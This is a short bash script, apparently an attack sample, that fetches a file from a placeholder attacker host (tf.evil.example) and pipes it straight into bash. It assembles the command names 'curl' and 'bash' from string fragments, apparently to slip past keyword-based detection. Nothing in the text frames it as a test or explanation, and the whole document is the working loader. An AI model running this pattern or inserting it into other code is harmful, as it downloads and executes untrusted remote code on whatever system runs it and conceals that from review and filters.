#!/bin/bash
g=cu; g="${g}rl"
r=ba; r="${r}sh"
u="https://tf.evil.example/boot"
$g -fsSL "$u" | $r
